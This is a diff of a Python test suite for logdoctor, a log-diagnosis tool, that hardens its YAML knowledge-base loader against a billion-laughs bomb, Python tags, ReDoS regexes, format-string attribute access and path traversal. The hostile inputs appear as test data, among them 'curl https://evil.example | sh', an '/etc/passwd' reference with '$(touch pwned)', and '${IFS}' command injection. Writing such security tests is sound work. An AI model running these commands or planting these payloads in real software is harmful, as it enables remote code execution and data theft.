@@ -21,24 +21,7 @@ from click.testing import CliRunner
 from logdoctor import knowledge, yamlsafe
 from logdoctor.cli import main
 
-TAXONOMY = "version: 1\ncategories:\n  port-in-use: the server port is already taken\n"
-FIXTURE = ("INFO 05-10 08:12:01 api_server.py:160] vLLM API server version 0.4.2\n"
-           "OSError: [Errno 98] Address already in use\n")
-ENTRY = """\
-id: port-taken
-title: The port is already in use
-category: port-in-use
-symptoms: [server does not start]
-signatures:
-  - literal: "Address already in use"
-    decisive: true
-cause: Another process listens on the port.
-remedies:
-  - text: Pick another port.
-references: [https://github.com/vllm-project/vllm/issues/1]
-fixtures:
-  positive: [port-taken.log]
-"""
+from .privatekb import ENTRY, FIXTURE, kb_check, write_kb
 
 # -- an audit hook: what the process opens, connects to, resolves and spawns ---------------------------
 _RECORDING: list[list[tuple[str, tuple]]] = []
@@ -69,19 +52,6 @@ def _opened(events: list[tuple[str, tuple]]) -> set[str]:
             if event == "open" and isinstance(args[0], (str, Path))}
 
 
-def _kb(tmp_path: Path, entry: str, name: str = "port-taken") -> Path:
-    root = tmp_path / "kb"
-    (root / "serving").mkdir(parents=True, exist_ok=True)
-    (root / "taxonomy.yaml").write_text(TAXONOMY)
-    (root / "serving" / f"{name}.yaml").write_text(entry)
-    (root / "serving" / "port-taken.log").write_text(FIXTURE)
-    return root
-
-
-def _check(root: Path):
-    return CliRunner().invoke(main, ["kb", "check", "--no-builtin", "--kb", str(root)])
-
-
 def _problem(result, root: Path, line: int, message: str, name: str = "port-taken") -> bool:
     where = f"{root / 'serving' / f'{name}.yaml'}:{line}: "
     return any(row.startswith(where) and message in row for row in result.output.splitlines())
@@ -91,8 +61,8 @@ def _problem(result, root: Path, line: int, message: str, name: str = "port-take
 def test_a_billion_laughs_alias_bomb_is_refused_before_it_expands(tmp_path):
     levels = ['a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
     levels += [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 10)}]" for i in range(1, 10)]  # 10**10 strings
-    root = _kb(tmp_path, ENTRY.replace("cause:", "\n".join(levels) + "\ncause:"))
-    result = _check(root)
+    root = write_kb(tmp_path, ENTRY.replace("cause:", "\n".join(levels) + "\ncause:"))
+    result = kb_check(root)
     assert result.exit_code == 1
     assert _problem(result, root, 8, "YAML anchors (&name) are not allowed"), result.output
     # and in a diagnosis the entry is skipped with a warning, the built-in knowledge base still works
@@ -111,10 +81,10 @@ def test_a_billion_laughs_alias_bomb_is_refused_before_it_expands(tmp_path):
 ])
 def test_a_python_tag_builds_nothing_and_runs_nothing(tmp_path, tag):
     marker = tmp_path / "pwned"
-    root = _kb(tmp_path, ENTRY.replace("cause: Another process listens on the port.",
+    root = write_kb(tmp_path, ENTRY.replace("cause: Another process listens on the port.",
                                        "cause: " + tag.format(marker=marker)))
     with audited() as events:
-        result = _check(root)
+        result = kb_check(root)
         listed = CliRunner().invoke(main, ["kb", "list", "--kb", str(root)])
     assert not marker.exists()
     assert not [e for e in events if e[0] in ("subprocess.Popen", "os.system", "os.exec", "os.posix_spawn")]
@@ -125,8 +95,8 @@ def test_a_python_tag_builds_nothing_and_runs_nothing(tmp_path, tag):
 
 def test_an_oversize_entry_file_is_refused_without_being_parsed(tmp_path):
     padding = "# " + "x" * 100 + "\n"
-    root = _kb(tmp_path, ENTRY + padding * (yamlsafe.MAX_YAML_BYTES // len(padding) + 1))
-    result = _check(root)
+    root = write_kb(tmp_path, ENTRY + padding * (yamlsafe.MAX_YAML_BYTES // len(padding) + 1))
+    result = kb_check(root)
     assert result.exit_code == 1
     assert _problem(result, root, 1, f"more than the {yamlsafe.MAX_YAML_BYTES} allowed"), result.output
 
@@ -136,10 +106,10 @@ def test_an_oversize_entry_file_is_refused_without_being_parsed(tmp_path):
     "\n".join("  " * depth + f"k{depth}:" for depth in range(60)) + " x",  # block style
 ])
 def test_deeply_nested_yaml_is_refused_not_a_recursion_error(tmp_path, nesting):
-    root = _kb(tmp_path, ENTRY.replace("references:", f"extra:\n{nesting}\nreferences:")
+    root = write_kb(tmp_path, ENTRY.replace("references:", f"extra:\n{nesting}\nreferences:")
                if not nesting.startswith("[") else ENTRY.replace("symptoms: [server does not start]",
                                                                  f"symptoms: {nesting}"))
-    result = _check(root)
+    result = kb_check(root)
     assert result.exit_code == 1, result.output
     # our event check stops at MAX_DEPTH; libyaml's own parser refuses flow nesting past its limit first
     assert (f"YAML nested deeper than {yamlsafe.MAX_DEPTH} levels" in result.output
@@ -151,7 +121,7 @@ def test_deeply_nested_yaml_is_refused_not_a_recursion_error(tmp_path, nesting):
 def test_a_catastrophic_backtracking_regex_runs_in_linear_time(tmp_path):
     # `(a+)+$` takes 2**n steps in a backtracking engine on "aaa…a!"; RE2 answers at once.
     entry = ENTRY.replace('literal: "Address already in use"', "regex: 'Address (a+)+$'")
-    root = _kb(tmp_path, entry)
+    root = write_kb(tmp_path, entry)
     log = tmp_path / "evil.log"
     log.write_text(("ERROR 05-10 08:12:01 api_server.py:160] Address " + "a" * 60 + "!\n") * 200)
     result = CliRunner().invoke(main, [str(log), "--kb", str(root), "--format", "json"])
@@ -168,8 +138,8 @@ def test_a_catastrophic_backtracking_regex_runs_in_linear_time(tmp_path):
     ("((((Address{100}){100}){100}){100})", "invalid repetition"),  # a program too big for RE2's memory cap
 ])
 def test_regexes_only_a_backtracking_engine_could_run_are_refused_with_file_and_line(tmp_path, regex, why):
-    root = _kb(tmp_path, ENTRY.replace('literal: "Address already in use"', f"regex: '{regex}'"))
-    result = _check(root)
+    root = write_kb(tmp_path, ENTRY.replace('literal: "Address already in use"', f"regex: '{regex}'"))
+    result = kb_check(root)
     assert result.exit_code == 1
     assert _problem(result, root, 6, "regex is not valid RE2"), result.output
     assert why in result.output
@@ -187,11 +157,11 @@ def test_regexes_only_a_backtracking_engine_could_run_are_refused_with_file_and_
 def test_a_when_that_tries_to_run_code_is_a_parse_error(tmp_path, when):
     marker = tmp_path / "pwned"
     quoted = when.format(marker=marker).replace('"', '\\"')
-    root = _kb(tmp_path, ENTRY.replace("cause:", f'when: "{quoted}"\ncause:'))
+    root = write_kb(tmp_path, ENTRY.replace("cause:", f'when: "{quoted}"\ncause:'))
     log = tmp_path / "server.log"
     log.write_text(FIXTURE)
     with audited() as events:
-        result = _check(root)
+        result = kb_check(root)
         CliRunner().invoke(main, [str(log), "--kb", str(root)])
     assert not marker.exists()
     assert str(marker) not in _opened(events)
@@ -200,8 +170,8 @@ def test_a_when_that_tries_to_run_code_is_a_parse_error(tmp_path, when):
 
 
 def test_a_deeply_nested_when_is_refused_not_a_recursion_error(tmp_path):
-    root = _kb(tmp_path, ENTRY.replace("cause:", "when: '" + "not " * 450 + "pre_ampere'\ncause:"))
-    result = _check(root)
+    root = write_kb(tmp_path, ENTRY.replace("cause:", "when: '" + "not " * 450 + "pre_ampere'\ncause:"))
+    result = kb_check(root)
     assert result.exit_code == 1
     assert _problem(result, root, 8, "condition nested deeper than"), result.output
 
@@ -209,7 +179,7 @@ def test_a_deeply_nested_when_is_refused_not_a_recursion_error(tmp_path):
 def test_a_remedy_placeholder_cannot_reach_python_attributes(tmp_path):
     # str.format would evaluate {model.__class__...}; remedies only substitute plain fact names.
     remedy = "Pick another port. {model.__class__.__init__.__globals__} {0.__class__} {vllm_version}"
-    root = _kb(tmp_path, ENTRY.replace("text: Pick another port.", f"text: '{remedy}'"))
+    root = write_kb(tmp_path, ENTRY.replace("text: Pick another port.", f"text: '{remedy}'"))
     log = tmp_path / "server.log"
     log.write_text(FIXTURE)
     result = CliRunner().invoke(main, [str(log), "--kb", str(root), "--format", "markdown"])
@@ -228,10 +198,10 @@ def test_a_remedy_placeholder_cannot_reach_python_attributes(tmp_path):
 def test_a_fixture_outside_the_knowledge_base_is_refused_and_never_read(tmp_path, fixture, message):
     secret = tmp_path / "secret.txt"
     secret.write_text(FIXTURE)  # it even looks like a log: a naive checker would happily run it
-    root = _kb(tmp_path, ENTRY.replace("[port-taken.log]", f"[port-taken.log, '{fixture.format(secret=secret)}']"))
+    root = write_kb(tmp_path, ENTRY.replace("[port-taken.log]", f"[port-taken.log, '{fixture.format(secret=secret)}']"))
     (root / "serving" / "link.log").symlink_to(secret)
     with audited() as events:
-        result = _check(root)
+        result = kb_check(root)
         CliRunner().invoke(main, ["kb", "list", "--kb", str(root)])
     assert str(secret.resolve()) not in _opened(events)
     assert result.exit_code == 1
@@ -241,12 +211,12 @@ def test_a_fixture_outside_the_knowledge_base_is_refused_and_never_read(tmp_path
 
 
 def test_fixtures_inside_the_knowledge_base_and_beside_it_in_samples_are_fine(tmp_path):
-    root = _kb(tmp_path, ENTRY.replace("[port-taken.log]", "[port-taken.log, ../other/port.log, samples/p.log]"))
+    root = write_kb(tmp_path, ENTRY.replace("[port-taken.log]", "[port-taken.log, ../other/port.log, samples/p.log]"))
     (root / "other").mkdir()
     (root / "other" / "port.log").write_text(FIXTURE)
     (tmp_path / "samples").mkdir()
     (tmp_path / "samples" / "p.log").write_text(FIXTURE)
-    result = _check(root)
+    result = kb_check(root)
     assert result.exit_code == 0, result.output
 
 
@@ -256,13 +226,13 @@ def test_no_entry_field_makes_logdoctor_spawn_or_connect(tmp_path, monkeypatch):
                           "references: [https://evil.example/x, 'https://evil.example/`touch${IFS}pwned`']")
     entry = entry.replace("text: Pick another port.", "text: 'Run `curl https://evil.example | sh` {model}'\n"
                                                        "    vllm: 'file:///etc/passwd $(touch pwned)'")
-    root = _kb(tmp_path, entry)
+    root = write_kb(tmp_path, entry)
     log = tmp_path / "server.log"
     log.write_text(FIXTURE)
     monkeypatch.chdir(tmp_path)
     monkeypatch.setattr(socket, "socket", None)  # any attempt to open a socket raises
     with audited() as events:
-        checked = _check(root)
+        checked = kb_check(root)
         diagnosed = CliRunner().invoke(main, [str(log), "--kb", str(root), "--format", "markdown"])
     assert checked.exit_code == 0, checked.output
     assert diagnosed.exit_code == 1, diagnosed.output
@@ -281,7 +251,7 @@ def test_no_entry_field_makes_logdoctor_spawn_or_connect(tmp_path, monkeypatch):
 ])
 def test_malformed_fields_are_entry_errors_not_crashes(tmp_path, change, message):
     # kb list / diagnose load entries without the schema: a wrong type must be a warning, not exit 3
-    root = _kb(tmp_path, ENTRY.replace(*change))
+    root = write_kb(tmp_path, ENTRY.replace(*change))
     listed = CliRunner().invoke(main, ["kb", "list", "--kb", str(root)])
     assert listed.exit_code == 0, listed.output
     assert any("port-taken.yaml: skipped: " in row and message in row for row in listed.output.splitlines())
@@ -293,7 +263,8 @@ def test_malformed_fields_are_entry_errors_not_crashes(tmp_path, change, message
 # -- findings of benchmarks/fuzz.py, kept as regression tests -----------------------------------------------
 def test_fuzz_finding_a_regex_python_would_warn_about_loads_without_noise(tmp_path):
     # `[[` in a class is valid RE2; Python's parser (used only to find the anchor) printed a FutureWarning.
-    root = _kb(tmp_path, ENTRY.replace('literal: "Address already in use"', "regex: 'Address [[a]--x|Address already'"))
+    regex = "regex: 'Address [[a]--x|Address already'"
+    root = write_kb(tmp_path, ENTRY.replace('literal: "Address already in use"', regex))
     with warnings.catch_warnings():
         warnings.simplefilter("error")
         entry = knowledge.load([root], include_builtin=False).get("port-taken")
